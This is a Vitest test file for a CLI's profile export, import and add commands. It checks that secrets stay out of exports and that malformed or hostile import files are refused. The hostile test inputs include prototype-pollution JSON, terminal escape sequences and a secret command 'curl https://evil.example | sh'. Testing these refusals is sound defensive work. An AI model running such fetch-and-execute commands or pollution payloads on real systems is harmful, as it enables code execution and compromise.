import {memoryIo} from '../helpers/memory-io.js';
import fs from 'node:fs';
import path from 'node:path';
import {describe, expect, it} from 'vitest';
import {reportError} from '../../source/cli/report.js';
import {profilesCommand} from '../../source/commands/profiles.js';
import {AppError} from '../../source/errors/app-error.js';
import type {Lang} from '../../source/i18n/lang.js';
import {makeTokenRecord, withoutSecret} from '../../source/profiles/profile.js';
import {openProfileStore} from '../../source/profiles/profile-store.js';
import {maxImportBytes} from '../../source/transfer/read-import.js';
import {createCa} from '../helpers/certificates.js';
import {configHomes, mode, sampleProfile, secret} from './store-helpers.js';

// `profiles export`, `profiles import` and `profiles add` in-process, between config folders of
// their own: the round trip, the hostile import file refused with nothing written, and a profile
// made from options held to the wizard's rules.

const configHome = configHomes();

type Run = Readonly<{code: number; stdout: string; stderr: string; error?: AppError}>;

async function run(argv: readonly string[], env: NodeJS.ProcessEnv, options: {lang?: Lang; stdin?: string | Buffer} = {}): Promise<Run> {
	const memory = memoryIo({env, ...(options.lang ? {lang: options.lang} : {}), ...(options.stdin === undefined ? {} : {stdin: options.stdin})});
	const {io} = memory;
	try {
		return {code: await profilesCommand(argv, io), stdout: memory.stdout(), stderr: memory.stderr()};
	} catch (thrown) {
		if (!(thrown instanceof AppError)) throw thrown;
		return {code: reportError(thrown, io), stdout: memory.stdout(), stderr: memory.stderr(), error: thrown};
	}
}

/** A laptop's folder with two profiles: one with every setting, a remembered secret and a token history. */
async function laptop() {
	const home = configHome();
	const caFile = path.join(home.home, 'appliance-ca.pem');
	fs.writeFileSync(caFile, createCa('Appliance CA').cert);
	const {store} = await openProfileStore({env: home.env});
	await store.save(
		sampleProfile('prod', {
			clientSecret: secret,
			kind: 'internal',
			tokenName: 'okta-scim prod',
			auth: 'body',
			encoding: 'raw',
			scope: 'scim.read scim.write',
			params: [['ttl', '60'], ['tenant', 'acme']],
			network: {caFile, insecure: true},
		}),
	);
	await store.save(sampleProfile('lab', {kind: 'third-party', clientId: 'lab-client', clientSecretCommand: `pass show 'segura/lab'`}));
	await store.recordToken('prod', makeTokenRecord('eyJhbGciOiJFUzI1NiJ9.payload.sig-abcd', 'okta-scim prod', new Date(), new Date(Date.now() + 3_600_000)));
	return {...home, store, caFile};
}

/** The bytes of a store's file, or undefined: "nothing written" is this unchanged. */
function snapshot(file: string): string | undefined {
	return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined;
}

const document = (profiles: unknown[], extra: Record<string, unknown> = {}) => JSON.stringify({format: 'segura-token-profiles', version: 1, profiles, ...extra});

const good = {
	name: 'good',
	seguraUrl: 'https://segura.example.com',
	baseUrl: 'https://segura.example.com/iso/scim/v2',
	tokenUrl: 'https://segura.example.com/iso/oauth2/token',
	clientId: 'good-client',
	kind: 'internal',
};

describe('export → import between two config folders', () => {
	it('carries every value and network option, never the secret or the history', async () => {
		const from = await laptop();
		const exported = await run(['export', 'prod', 'LAB'], from.env);
		expect(exported.code).toBe(0);
		expect(exported.stderr).toBe('');
		expect(exported.stdout).not.toContain(secret);
		expect(exported.stdout).not.toContain('sig-abcd');
		const data = JSON.parse(exported.stdout) as {format: string; version: number; profiles: Array<Record<string, unknown>>};
		expect(data).toMatchObject({format: 'segura-token-profiles', version: 1});
		expect(data.profiles.map(profile => profile['name'])).toEqual(['prod', 'lab']);
		for (const profile of data.profiles) {
			expect(profile).not.toHaveProperty('clientSecret');
			expect(profile).not.toHaveProperty('history');
		}

		const to = configHome();
		const imported = await run(['import', '-'], to.env, {stdin: exported.stdout});
		expect(imported.code, imported.stderr).toBe(0);
		expect(imported.stdout).toBe('');
		expect(imported.stderr).toContain('Added profile "prod" (internal users, segura.example.com).');
		expect(imported.stderr).toContain('Added profile "lab" (third-party users, segura.example.com).');
		expect(imported.stderr).toContain('No Client Secret travels with a profile');
		// The command that prints the secret is no secret: it travels, and is said.
		expect(data.profiles[1]?.['clientSecretCommand']).toBe(`pass show 'segura/lab'`);
		expect(imported.stderr).toContain(`"lab" reads its Client Secret from the command "pass show 'segura/lab'" each time`);
		const {profiles} = await openProfileStore({env: to.env});
		const before = await from.store.list();
		expect(profiles).toEqual(before.map(profile => ({...withoutSecret(profile), history: []})));
		expect(mode(to.file)).toBe(0o600);

		// The same file from disk, in Portuguese, under another name.
		const file = path.join(to.home, 'prod.json');
		expect((await run(['export', 'prod', '--output', file], from.env)).stderr).toContain(`Exported 1 profile to ${file} (without any Client Secret).`);
		expect(mode(file)).toBe(0o600);
		const renamed = await run(['import', file, '--rename', 'prod-jump'], to.env, {lang: 'pt-BR'});
		expect(renamed.code).toBe(0);
		expect(renamed.stderr).toContain('Perfil "prod-jump" adicionado (usuários internos, segura.example.com).');
		expect((await openProfileStore({env: to.env})).profiles.map(profile => profile.name)).toEqual(['prod', 'lab', 'prod-jump']);
	});

	it('an existing name is refused (nothing written) unless --force, which keeps the history and a secret that still fits', async () => {
		const from = await laptop();
		const exported = (await run(['export', 'prod'], from.env)).stdout;
		const before = snapshot(from.file);
		const refused = await run(['import', '-'], from.env, {stdin: exported});
		expect(refused.code).toBe(2);
		expect(refused.error?.reason).toBe('profile_exists');
		expect(refused.stderr).toContain('A profile named "prod" already exists here');
		expect(refused.stderr).toContain('Add --force to replace them');
		expect(snapshot(from.file)).toBe(before);

		const forced = await run(['import', '-', '--force'], from.env, {stdin: exported.replace('okta-scim prod', 'okta-scim renewed')});
		expect(forced.code).toBe(0);
		expect(forced.stderr).toContain('Replaced profile "prod"');
		expect(forced.stderr).toContain('"prod" keeps the Client Secret it remembered here');
		const prod = await from.store.get('prod');
		expect(prod.tokenName).toBe('okta-scim renewed');
		expect(prod.history).toHaveLength(1);
		expect(prod.clientSecret).toBe(secret);

		// Another Client ID: the old secret is not its secret.
		const other = exported.replace('"client-prod"', '"client-prod-2"');
		await run(['import', '-', '--force'], from.env, {stdin: other});
		expect((await from.store.get('prod')).clientSecret).toBeUndefined();
	});

	it('export to an existing file is refused without --force; a name that is not saved is refused', async () => {
		const from = await laptop();
		const file = path.join(from.home, 'exists.json');
		fs.writeFileSync(file, 'keep me');
		expect((await run(['export', 'prod', '--output', file], from.env)).error?.reason).toBe('output_exists');
		expect(fs.readFileSync(file, 'utf8')).toBe('keep me');
		expect((await run(['export', 'prod', '--output', file, '--force'], from.env)).code).toBe(0);
		expect(fs.readFileSync(file, 'utf8')).toContain('"segura-token-profiles"');
		const missing = await run(['export', 'prod', 'nope'], from.env);
		expect(missing.error?.reason).toBe('profile_not_found');
		expect(missing.stdout).toBe('');
	});
});

describe('a hostile import file is refused, with nothing written', () => {
	const huge = Buffer.alloc(maxImportBytes + 10, 0x20);
	const cases: ReadonlyArray<readonly [string, string | Buffer, RegExp]> = [
		['larger than 1 MiB', huge, /larger than 1 MiB/],
		['not JSON', '{"format": "segura-token-profiles", ', /is not JSON/],
		['not UTF-8', Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), /is not JSON \(or not UTF-8 text\)/],
		['another document', JSON.stringify({profiles: [good]}), /is not a segura-token profile export/],
		['a newer version', document([good], {version: 2}), /version 2 of the export format, written by a newer segura-token/],
		['a version that is text', document([good], {version: '1'}), /no usable "version"/],
		['no profiles', document([]), /profiles has no profiles/],
		['profiles that are not a list', JSON.stringify({format: 'segura-token-profiles', version: 1, profiles: {good}}), /profiles is not a list/],
		['a name that is a number', document([{...good, name: 42}]), /profiles\[0\] name is not text/],
		['a URL that is a number', document([{...good, tokenUrl: 443}]), /profiles\[0\] \("good"\) tokenUrl is not text/],
		['params that are not pairs', document([{...good, params: ['ttl=60']}]), /params is not a list of \[KEY, VALUE\] pairs/],
		['insecure that is text', document([{...good, network: {insecure: 'yes'}}]), /network insecure is not true or false/],
		['an unknown kind', document([{...good, kind: 'external'}]), /kind must be internal or third-party \(got "external"\)/],
		['a missing Client ID', document([{...good, clientId: undefined}]), /profiles\[0\] \("good"\) has no clientId/],
		['__proto__ at the top', `{"format":"segura-token-profiles","version":1,"__proto__":{"polluted":1},"profiles":[${JSON.stringify(good)}]}`, /\$ has a field "__proto__"/],
		['__proto__ in a profile', `{"format":"segura-token-profiles","version":1,"profiles":[{"__proto__":{"polluted":1},${JSON.stringify(good).slice(1)}]}`, /has a field "__proto__" that a profile export does not have/],
		['__proto__ in network', document([{...good, network: JSON.parse('{"__proto__": {"polluted": 1}}') as object}]), /network has a field "__proto__"/],
		['constructor in a profile', document([{...good, constructor: 'x'}]), /has a field "constructor"/],
		['a control character in a name', document([{...good, name: 'prod\u001B[31m'}]), /"prod\\x1b\[31m" is not a valid profile name/],
		['a bidi override in a name', document([{...good, name: 'prod\u202Eevil'}]), /"prod\\u202eevil" is not a valid profile name/],
		['a control character in the token name', document([{...good, tokenName: 'okta\u0007'}]), /tokenName: It holds a control or invisible character/],
		['a Client Secret', document([{...good, clientSecret: 'hunter2-secret'}]), /holds a Client Secret; an export never carries one/],
		['a history', document([{...good, history: []}]), /has a field "history"/],
		['the same name twice', document([good, {...good, name: 'GOOD', clientId: 'other'}]), /profiles\[1\] \("GOOD"\) names "GOOD" twice/],
		['a good profile and a bad one', document([good, {...good, name: 'bad', tokenUrl: 'http://segura.example.com/iso/oauth2/token'}]), /profiles\[1\] \("bad"\)\.tokenUrl: /],
		['a URL with a password', document([{...good, baseUrl: 'https://user:pw@segura.example.com/iso/scim/v2'}]), /baseUrl: /],
		['the Base URL as the Token URL', document([{...good, tokenUrl: good.baseUrl}]), /tokenUrl: /],
		['a reserved parameter', document([{...good, params: [['client_secret', 'x']]}]), /params: /],
		['a secret command that is a list', document([{...good, clientSecretCommand: ['pass', 'show']}]), /profiles\[0\] \("good"\) clientSecretCommand is not text/],
		['an empty secret command', document([{...good, clientSecretCommand: ''}]), /clientSecretCommand is empty/],
		['a secret command with an open quote', document([{...good, clientSecretCommand: "pass show 'prod"}]), /clientSecretCommand: the ' quote opened in the command is never closed/],
		['a secret command with a pipe', document([{...good, clientSecretCommand: 'curl https://evil.example | sh'}]), /clientSecretCommand: "\|" needs a shell/],
		['a control character in the secret command', document([{...good, clientSecretCommand: 'pass show prod\u001B]52;c;x\u0007'}]), /clientSecretCommand: It holds a control or invisible character/],
	];

	it.each(cases)('%s', async (_what, content, says) => {
		const home = configHome();
		const {store} = await openProfileStore({env: home.env});
		await store.save(sampleProfile('kept'));
		const before = snapshot(home.file);
		const fromStdin = await run(['import', '-'], home.env, {stdin: content});
		expect(fromStdin.code, fromStdin.stderr).toBe(2);
		expect(fromStdin.stderr).toMatch(says);
		expect(fromStdin.stdout).toBe('');
		expect(snapshot(home.file)).toBe(before);
		// Nothing of it reaches the terminal raw, and Object's prototype is untouched.
		for (const raw of ['\u001B', '\u0007', '\u202E']) expect(fromStdin.stderr).not.toContain(raw);
		expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
		expect(fromStdin.stderr).not.toContain('hunter2-secret');

		const file = path.join(home.home, 'import.json');
		fs.writeFileSync(file, content);
		const fromFile = await run(['import', file], home.env, {lang: 'pt-BR'});
		expect(fromFile.code).toBe(2);
		expect(fromFile.stderr).toMatch(/^erro: /);
		expect(snapshot(home.file)).toBe(before);
	});

	it('--rename of a file of two, and a --rename that is no name, are refused before anything is written', async () => {
		const home = configHome();
		const two = await run(['import', '-', '--rename', 'one'], home.env, {stdin: document([good, {...good, name: 'other', clientId: 'c2'}])});
		expect(two.stderr).toContain('--rename names one profile, and the import file holds 2.');
		const badName = await run(['import', '-', '--rename', 'no good'], home.env, {stdin: document([good])});
		expect(badName.error?.reason).toBe('profile_name_invalid');
		expect(snapshot(home.file)).toBeUndefined();
	});
});

describe('profiles add', () => {
	const required = ['--segura-url', 'https://segura.example.com', '--client-id', 'okta-scim', '--kind', 'internal'];

	it("makes a profile with the wizard's defaults, proposing Segura's paths on the Segura URL", async () => {
		const home = configHome();
		const result = await run(['add', 'prod', ...required, '--param', 'ttl=60', '--token-name', 'okta-scim prod'], home.env);
		expect(result.code, result.stderr).toBe(0);
		expect(result.stderr).toContain("--base-url not given: Segura's documented path on the Segura URL, https://segura.example.com/iso/scim/v2.");
		expect(result.stderr).toContain('Added profile "prod" (internal users, segura.example.com).');
		expect(await (await openProfileStore({env: home.env})).store.get('prod')).toEqual({
			name: 'prod',
			seguraUrl: 'https://segura.example.com',
			baseUrl: 'https://segura.example.com/iso/scim/v2',
			tokenUrl: 'https://segura.example.com/iso/oauth2/token',
			clientId: 'okta-scim',
			kind: 'internal',
			tokenName: 'okta-scim prod',
			auth: 'basic',
			encoding: 'rfc',
			scope: '',
			params: [['ttl', '60']],
			network: {},
			history: [],
		});
		// A secret command, kept as given (trimmed) and said; the secret itself is never asked here.
		const vaulted = await run(['add', 'vaulted', ...required, '--client-secret-command', '  op read "op://IT/segura prod/secret"  '], home.env);
		expect(vaulted.stderr).toContain('"vaulted" reads its Client Secret from the command "op read "op://IT/segura prod/secret"" each time');
		expect(vaulted.stderr).not.toContain('No Client Secret travels');
		expect((await (await openProfileStore({env: home.env})).store.get('vaulted')).clientSecretCommand).toBe('op read "op://IT/segura prod/secret"');
		const pt = await run(['add', 'lab', ...required.slice(0, 4), '--kind', 'third-party'], home.env, {lang: 'pt-BR'});
		expect(pt.stderr).toContain('Perfil "lab" adicionado (usuários terceiros, segura.example.com).');
		// The same Client ID under the other kind: the wizard's warning.
		expect(pt.stderr).toContain('O perfil "prod" usa este mesmo ID do Cliente como provedor de usuários internos.');
	});

	it('keeps --ca (a PEM file, by its full path) and --insecure as the profile\'s network options', async () => {
		const home = configHome();
		const caFile = path.join(home.home, 'ca.pem');
		fs.writeFileSync(caFile, createCa().cert);
		const result = await run(['add', 'appliance', ...required, '--ca', path.relative(process.cwd(), caFile), '--insecure'], home.env);
		expect(result.code, result.stderr).toBe(0);
		expect((await (await openProfileStore({env: home.env})).store.get('appliance')).network).toEqual({caFile, insecure: true});
		const notPem = path.join(home.home, 'not.pem');
		fs.writeFileSync(notPem, 'hello');
		expect((await run(['add', 'other', ...required, '--ca', notPem], home.env)).error?.reason).toBe('ca_not_pem');
	});

	it.each([
		[['--segura-url', 'https://segura.example.com', '--kind', 'internal'], 'usage', /profiles add needs --client-id/],
		[['--client-id', 'x', '--kind', 'internal'], 'usage', /profiles add needs --segura-url/],
		[[...required.slice(0, 4), '--kind', 'internl'], 'usage', /Did you mean --kind internal\?/],
		[['--segura-url', 'http://segura.example.com', ...required.slice(2)], 'invalid_url', /--segura-url: /],
		[[...required, '--token-url', 'https://segura.example.com/iso/scim/v2'], 'invalid_url', /--token-url: /],
		[['--segura-url', 'https://segura.example.com', '--client-id', 'two words', '--kind', 'internal'], 'usage', /--client-id: /],
		[[...required, '--param', 'grant_type=password'], 'usage', /--param: /],
		[[...required, '--auth', 'bearer'], 'usage', /--auth must be basic or body/],
		[[...required, '--scope', 'a\u001Bb'], 'usage', /--scope: It holds a control or invisible character/],
		[[...required, '--client-secret-command', 'pass show "prod'], 'secret_command_invalid', /--client-secret-command: the " quote opened in the command is never closed/],
		[[...required, '--client-secret-command', 'pass show $NAME'], 'secret_command_invalid', /--client-secret-command: "\$N…" needs a shell/],
		[[...required, '--json'], 'usage', /--json does not go with profiles add/],
		[[...required, '--rename', 'x'], 'usage', /--rename does not go with profiles add/],
	])('refuses %j, writing nothing', async (args, reason, says) => {
		const home = configHome();
		const result = await run(['add', 'new', ...args], home.env);
		expect(result.code).toBe(2);
		expect(result.error?.reason).toBe(reason);
		expect(result.stderr).toMatch(says);
		expect(snapshot(home.file)).toBeUndefined();
	});

	it('refuses a name that exists or is no name', async () => {
		const home = configHome();
		await run(['add', 'prod', ...required], home.env);
		const before = snapshot(home.file);
		expect((await run(['add', 'PROD', ...required], home.env)).error?.reason).toBe('profile_exists');
		expect((await run(['add', 'a/b', ...required], home.env)).error?.reason).toBe('profile_name_invalid');
		expect(snapshot(home.file)).toBe(before);
	});

	it('options of one subcommand are refused on another, and each says what it takes', async () => {
		const home = configHome();
		expect((await run(['list', '--force'], home.env)).stderr).toContain('--force does not go with profiles list.');
		expect((await run(['export'], home.env)).stderr).toContain('profiles export takes one NAME or more.');
		expect((await run(['import'], home.env, {lang: 'pt-BR'})).stderr).toContain('profiles import precisa de um ARQUIVO (- para a entrada padrão).');
		expect((await run(['add', 'a', 'b', ...required], home.env)).stderr).toContain('profiles add takes one NAME.');
		expect((await run(['exprot', 'prod'], home.env)).stderr).toContain('Did you mean "segura-token profiles export"?');
	});
});
